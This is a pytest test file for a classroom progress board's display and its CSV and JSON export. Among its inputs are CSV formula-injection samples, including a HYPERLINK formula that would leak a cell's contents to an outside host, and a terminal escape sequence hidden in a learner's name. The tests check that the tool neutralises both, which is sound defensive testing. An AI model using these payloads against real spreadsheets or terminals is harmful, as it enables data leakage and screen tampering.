"""How the class is shown: marks, counts, and cells that a spreadsheet never takes for formulas."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from sopslab.checks.board.judge import judge
from sopslab.checks.board.steps import STEPS, Progress, Row, Step
from sopslab.cli import answers
from sopslab.cli import board as show
from tests.unit.board.board_material import ADA, DONE, KUSTOMIZATION, fresh, suspended, with_facets

STUCK_SEAT = with_facets(kustomizations=[suspended(KUSTOMIZATION)])


NOW = 1_800_000_000.0


def _rows(done: int = 0, stuck: int = 0, fresh_ones: int = 0) -> list[Row]:
    kinds = [DONE] * done + [STUCK_SEAT] * stuck + [fresh()] * fresh_ones
    return [
        judge(ADA.model_copy(update={"id": f"seat-{number}"}), seen)
        for number, seen in enumerate(kinds)
    ]


def _printed(what: object, width: int) -> list[str]:
    out = io.StringIO()
    Console(file=out, width=width, highlight=False).print(what)
    return [line.rstrip() for line in out.getvalue().splitlines()]


@pytest.mark.parametrize(
    ("done", "stuck", "others", "text"),
    [
        (17, 3, 10, "17 of 30 are done; 3 need help."),
        (1, 0, 1, "1 of 2 is done."),
        (0, 1, 0, "0 of 1 are done; 1 needs help."),
        (2, 0, 0, "2 of 2 are done."),
    ],
)
def test_the_last_line_counts(done: int, stuck: int, others: int, text: str) -> None:
    assert show.summary(_rows(done, stuck, others)).plain == text


def test_a_learner_is_one_line_with_a_mark_for_each_step() -> None:
    header, done, stuck, open_one = _printed(show.table(_rows(1, 1, 1), 140, NOW), 140)

    assert header.split() == ["seat", "name", "group", *STEPS, "next"]
    assert done.split() == ["seat-0", "Ada", "a", *"✓" * 8]
    assert stuck.split()[3:11] == list("✓✓✓✓✓✓✗–")
    assert "Kustomization secrets-develop is suspended" in stuck
    assert open_one.split()[3:11] == list("✓✓✗✗✗✓✗✗")


@pytest.mark.parametrize("width", [72, 80, 100])
def test_a_narrow_screen_keeps_every_step(width: int) -> None:
    header, *lines = _printed(show.table(_rows(1, 1, 1), width, NOW), width)

    assert header.split() == ["seat", *STEPS, "next"]
    assert [line.split()[0] for line in lines] == ["seat-0", "seat-1", "seat-2"]


def test_a_low_screen_keeps_those_who_need_help_and_says_how_many_it_leaves_out() -> None:
    rows = _rows(done=5, stuck=1, fresh_ones=2)

    assert len(_printed(show.fitting(rows, 100, 9, NOW), 100)) == 9
    lines = _printed(show.fitting(rows, 100, 5, NOW), 100)
    assert [line.split()[0] for line in lines[1:-1]] == ["seat-5", "seat-6", "seat-7"]
    assert lines[-1] == "… 5 more"


def test_only_who_needs_help_is_told_in_full() -> None:
    (text,) = show.details(_rows(1, 1, 1), NOW)

    assert text.plain == (
        "seat-1: The Kustomization secrets-develop is suspended, so Flux applies nothing new; Ready"
        " is from before (Kustomization lab-ada-sys/secrets-develop: spec.suspend is true).\n"
        "  → flux --namespace lab-ada-sys resume kustomization secrets-develop"
    )


def test_json_has_each_learner_with_every_step() -> None:
    first, second, _ = answers.of_class(_rows(1, 1, 1))

    assert first == {
        "seat": "seat-0",
        "name": "Ada",
        "group": "a",
        "done": True,
        "needs_help": False,
        "asked": None,
        "hints": 0,
        "steps": dict.fromkeys(STEPS, "yes"),
        "next": "",
        "fix": "",
        "expires": None,
    }
    assert second["needs_help"] is True
    assert second["steps"] == {**dict.fromkeys(STEPS, "yes"), "applied": "no", "secret": "unknown"}


def test_csv_is_a_line_of_names_and_one_for_each_learner() -> None:
    header, *lines = csv.reader(io.StringIO(answers.lines_of_class(_rows(1, 1))))

    assert header == [
        *("seat", "name", "group", "done", "needs_help", "asked", "hints"),
        *STEPS,
        *("next", "fix", "expires"),
    ]
    assert lines[0] == ["seat-0", "Ada", "a", "yes", "no", "", "0", *["yes"] * 8, "", "", ""]
    assert [lines[1][header.index(name)] for name in ("applied", "secret")] == ["no", "unknown"]


def _csv_of(name: str, found: str = "") -> list[str]:
    step = Step("access", Progress.NO, found)
    row = Row(ADA.model_copy(update={"name": name}), (step,))
    text = answers.lines_of_class([row])
    (_, line) = csv.reader(io.StringIO(text))
    return line


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "  =1",
        "＝1",
        "|x",
        '=HYPERLINK("http://x?"&A1,"y")',
    ],
)
def test_no_cell_begins_like_a_formula(formula: str) -> None:
    assert _csv_of(formula)[1] == f"'{formula}"
    assert _csv_of("Ada", found=formula)[8] == f"'{formula}"


def test_a_name_that_begins_like_a_word_stays_as_it_is() -> None:
    for name in ("Ada", "Zoë =x", "李雷", "O'Neill; =1", 'Ada "the first"'):
        assert _csv_of(name)[1] == name


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20))
def test_every_cell_is_quoted_and_reads_as_one(name: str) -> None:
    """Whatever a spreadsheet may take for a separator is inside quotes."""
    text = answers.lines_of_class([Row(ADA.model_copy(update={"name": name}), ())])
    outside = text.replace('""', "").split('"')[::2]

    assert set("".join(outside)) <= {",", "\n"}


def test_what_a_terminal_would_obey_is_not_printed() -> None:
    row = replace(_rows(1)[0], seat=ADA.model_copy(update={"name": "[red]\x1b[2JAda"}))
    (_, line) = _printed(show.table([row], 140, NOW), 140)

    assert "[red]\\x1b[2JAda" in line


def _asking(minutes: float, *kinds: int) -> list[Row]:
    """Return rows; the last learner has been asking for help for this many minutes."""
    *others, last = _rows(*kinds)
    return [*others, replace(last, asked=NOW - 60 * minutes, hints=2)]


def test_who_asks_for_help_is_marked_with_the_minutes_since_then() -> None:
    header, *lines = _printed(show.table(_asking(12, 1, 1, 1), 140, NOW), 140)

    assert header.split() == ["seat", "name", "group", "asks", *STEPS, "next"]
    assert [line.split()[3:5] for line in lines] == [["✓", "✓"], ["✓", "✓"], ["12", "min"]]


@pytest.mark.parametrize(
    ("minutes", "told"),
    [(0, "0 min"), (0.9, "0 min"), (59.9, "59 min"), (60, "1 h 0 min"), (125, "2 h 5 min"),
     (-3, "0 min")],
)  # fmt: skip
def test_how_long_ago_something_was_is_told_in_whole_minutes(minutes: float, told: str) -> None:
    assert show.ago(NOW - 60 * minutes, NOW) == told


def test_who_asks_for_help_is_told_in_full_and_counted() -> None:
    rows = _asking(12, 1, 1, 1)

    _, asks = show.details(rows, NOW)
    assert asks.plain == (
        "seat-2: asked for help 12 min ago; nothing is pushed yet: main is where it began."
        "\n  → git push"
    )
    (done,) = show.details(_asking(3, 1), NOW)
    assert done.plain == "seat-0: asked for help 3 min ago."
    assert show.summary(rows).plain == "1 of 3 is done; 1 needs help; 1 asks for help."
    two = [replace(row, asked=NOW) for row in _rows(2)]
    assert show.summary(two).plain == "2 of 2 are done; 2 ask for help."


def test_json_and_csv_have_the_time_and_the_hints() -> None:
    rows = _asking(12, 1, 0, 1)
    told = answers.of_class(rows)[1]
    assert (told["asked"], told["hints"]) == (NOW - 720, 2)
    header, _, line = csv.reader(io.StringIO(answers.lines_of_class(rows)))
    row = dict(zip(header, line, strict=True))
    assert (row["asked"], row["hints"]) == ("2027-01-15T07:48:00+00:00", "2")


def test_who_asks_for_help_stays_on_a_low_screen_before_all_others() -> None:
    rows = _asking(1, 5, 2, 1)
    lines = _printed(show.fitting(rows, 100, 4, NOW), 100)

    assert [line.split()[0] for line in lines[1:-1]] == ["seat-5", "seat-7"]


def test_the_order_of_the_roster_stays() -> None:
    rows = _asking(1, 1, 1, 1)
    lines = _printed(show.table(rows, 140, NOW), 140)

    assert [line.split()[0] for line in lines[1:]] == ["seat-0", "seat-1", "seat-2"]
